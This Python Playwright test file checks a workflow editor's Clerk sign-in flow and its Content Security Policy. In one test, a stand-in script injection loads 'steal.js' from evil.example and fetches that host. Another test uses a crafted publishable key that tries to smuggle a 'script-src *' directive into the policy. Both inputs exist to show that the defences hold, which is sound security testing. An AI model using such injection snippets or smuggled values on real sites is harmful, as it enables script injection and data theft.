"""Signing in to the editor with Clerk, in a real browser, with a stand-in for Clerk's script.

The policy of the pages is the real one, and so is the part of Clerk that we build in.
"""

import base64
import json
from collections.abc import AsyncIterator, Iterator
from dataclasses import dataclass, field
from pathlib import Path

import httpx
import pytest
from playwright.async_api import Page, Request, Route, async_playwright, expect

from api.app import create_app
from api.pages.content_policy import content_security_policy, frontend_api_host
from schemas.settings import Settings
from support.api.client import Api, graph, serving, text_node
from support.browser.editor import CHROMIUM, QUIET, TIMEOUT_MS, in_chromium
from support.servers.clerk import Clerk, running_clerk

HOST = "clerk.nodeloom.example"
KEY = "pk_test_" + base64.b64encode(f"{HOST}$".encode()).decode().rstrip("=")
SCRIPT = Path(__file__).parents[2] / "support" / "servers" / "clerk_browser.js"
VIOLATIONS = "addEventListener('securitypolicyviolation', event => refused.push(event.blockedURI))"
INTRUDER = """async () => {
  const script = document.createElement("script");
  script.src = "https://evil.example/steal.js";
  document.body.append(script);
  await fetch("https://evil.example/").catch(() => null);
}"""


@pytest.fixture(scope="module")
def clerk() -> Iterator[Clerk]:
    with running_clerk() as clerk:
        yield clerk


@pytest.fixture
def with_clerk(clerk: Clerk, settings: Settings) -> Settings:
    return clerk.settings(settings).model_copy(update={"clerk_publishable_key": KEY})


@dataclass
class Visit:
    """A page of the editor, and what it asked of whom."""

    page: Page
    base: str
    clerk: Clerk
    elsewhere: list[str] = field(default_factory=list[str])
    asked: list[tuple[str, str | None]] = field(default_factory=list[tuple[str, str | None]])
    """Paths of the API, each with the token that came with the request."""
    console_errors: list[str] = field(default_factory=list[str])

    async def answer(self, route: Route) -> None:
        """Answer in the place of Clerk."""
        path = route.request.url.removeprefix(f"https://{HOST}")
        self.elsewhere.append(path.split("?")[0])
        headers = {"Access-Control-Allow-Origin": "*"}
        if path.endswith(".js"):
            script = SCRIPT.read_text("utf-8")
            await route.fulfill(body=script, content_type="text/javascript", headers=headers)
        else:
            said = json.dumps({"jwt": self.clerk.token()})
            await route.fulfill(body=said, content_type="application/json", headers=headers)

    def record_request(self, request: Request) -> None:
        """Remember who came with what."""
        if request.url.startswith(f"{self.base}/api/"):
            path = request.url.removeprefix(self.base)
            self.asked.append((path, request.headers.get("authorization")))


@pytest.fixture
async def visit(with_clerk: Settings, clerk: Clerk) -> AsyncIterator[Visit]:
    async with serving(create_app(with_clerk), with_clerk) as client, async_playwright() as tool:
        chromium = await tool.chromium.launch(executable_path=CHROMIUM, args=QUIET)
        page = await chromium.new_page()
        page.set_default_timeout(TIMEOUT_MS)
        expect.set_options(timeout=TIMEOUT_MS)
        visit = Visit(page, str(client.base_url).rstrip("/"), clerk)
        page.on("request", visit.record_request)
        page.on("console", lambda message: visit.console_errors.append(message.text))
        page.on("pageerror", lambda error: visit.console_errors.append(str(error)))
        await page.route(f"https://{HOST}/**", visit.answer)
        await page.add_init_script(f"window.refused = []; {VIOLATIONS}")
        yield visit
        await chromium.close()


@in_chromium
async def test_people_sign_in_work_and_sign_out(visit: Visit, clerk: Clerk):
    page = visit.page
    await page.goto(f"{visit.base}/workflows")
    form = page.get_by_role("button", name="Continue")
    await expect(form).to_be_visible()
    assert await form.evaluate("it => getComputedStyle(it).borderTopWidth") == "7px"
    assert [path for path, _ in visit.asked] == ["/api/sign-in"]

    await form.click()
    await expect(page.get_by_role("heading", name="Make your first workflow")).to_be_visible()
    headers = {"Authorization": f"Bearer {clerk.token()}"}
    async with httpx.AsyncClient(base_url=visit.base, headers=headers, trust_env=False) as ann:
        made = await ann.post("/api/workflows", json=graph(text_node("a")))
    await page.goto(f"{visit.base}/workflows/{made.json()['id']}")
    await page.get_by_role("button", name="Continue").click()
    await page.get_by_role("button", name="Run", exact=True).click()
    await expect(page.locator(".node--PENDING")).to_have_count(1)
    async with page.expect_request("**/events") as events:
        await page.reload()
        await page.get_by_role("button", name="Continue").click()
    assert (await events.value).headers["authorization"].startswith("Bearer ey")
    without = {path for path, token in visit.asked if not token}
    assert without == {"/api/sign-in"}
    assert [each for each in visit.console_errors if "development keys" not in each] == []

    visit.console_errors.clear()
    await page.get_by_role("button", name="Account and help").click()
    await page.get_by_role("menuitem", name="Sign out").click()
    await expect(page.get_by_role("button", name="Continue")).to_be_visible()
    assert await page.evaluate("refused") == []
    late = [each for each in visit.console_errors if "401" not in each]  # what was asked meanwhile
    assert [each for each in late if "development keys" not in each] == []


@in_chromium
async def test_a_share_link_asks_nobody_to_sign_in(visit: Visit, clerk: Clerk):
    headers = {"Authorization": f"Bearer {clerk.token()}"}
    drawn = graph(
        text_node("a"), inputs=[{"name": "topic", "nodeId": "a", "param": "text", "title": "Topic"}]
    )
    async with httpx.AsyncClient(base_url=visit.base, headers=headers, trust_env=False) as ann:
        made = await ann.post("/api/workflows", json=drawn)
        publish = f"/api/workflows/{made.json()['id']}/publish"
        (await ann.post(publish, json={"name": "posts"})).raise_for_status()
        link = await ann.post("/api/functions/posts/links", json={"title": "A shop"})
    page = visit.page
    await page.goto(f"{visit.base}{link.json()['url']}")
    await page.get_by_label("Topic").fill("Tea")
    await page.get_by_role("button", name="Run", exact=True).click()
    await expect(page.get_by_text("Waits for its turn")).to_be_visible()
    await page.get_by_role("button", name="Cancel").click()
    await expect(page.get_by_text("It was stopped.")).to_be_visible()
    assert {path.startswith("/api/shared/") for path, _ in visit.asked} == {True}
    assert visit.elsewhere == []
    assert await page.evaluate("refused") == []


@in_chromium
async def test_nobody_but_clerk_is_let_into_the_page(visit: Visit):
    await visit.page.goto(visit.base)
    await expect(visit.page.get_by_role("button", name="Continue")).to_be_visible()
    await visit.page.evaluate(INTRUDER)
    await visit.page.wait_for_function("() => refused.length === 2")
    refused = await visit.page.evaluate("refused.sort()")
    assert refused == ["https://evil.example/", "https://evil.example/steal.js"]


def test_the_policy_names_clerk_where_people_sign_in_with_it_and_nobody_else(
    with_clerk: Settings, settings: Settings, clerk: Clerk
):
    sources = dict(part.split(" ", 1) for part in content_security_policy(with_clerk).split("; "))
    interfaces = f"https://{HOST} {clerk.url}"
    robots, fraud = "https://challenges.cloudflare.com", "https://*.protect.clerk.com"
    assert sources["script-src"] == f"'self' {interfaces} {robots} {fraud}"
    assert sources["connect-src"] == f"'self' {interfaces} {fraud}:*"
    assert sources["img-src"] == "'self' blob: https://img.clerk.com"
    assert sources["frame-src"] == f"{robots} {fraud}"
    assert sources["default-src"] == "'none'"
    assert "unsafe" not in sources["script-src"]
    assert "//" not in content_security_policy(settings)


@pytest.mark.parametrize(
    ("key", "host"),
    [
        (KEY, HOST),
        ("pk_live_Y2xlcmsuZXhhbXBsZS5jb20k", "clerk.example.com"),
        ("pk_test_1", None),
        ("pk_test_", None),
        ("pk_test_bm8gZG9sbGFy", None),
        ("", None),
    ],
)
def test_the_key_names_the_host(key: str, host: str | None):
    assert frontend_api_host(key) == host


def test_a_key_cannot_put_more_into_the_policy(with_clerk: Settings):
    bad = "pk_test_" + base64.b64encode(b"a.example; script-src *$").decode()
    policy = content_security_policy(with_clerk.model_copy(update={"clerk_publishable_key": bad}))
    assert "a.example" not in policy
    assert policy.count("script-src") == 1


async def test_local_pages_are_told_of_nobody(api: Api):
    assert (await api.get("/api/sign-in")).json()["auth"] == "local"
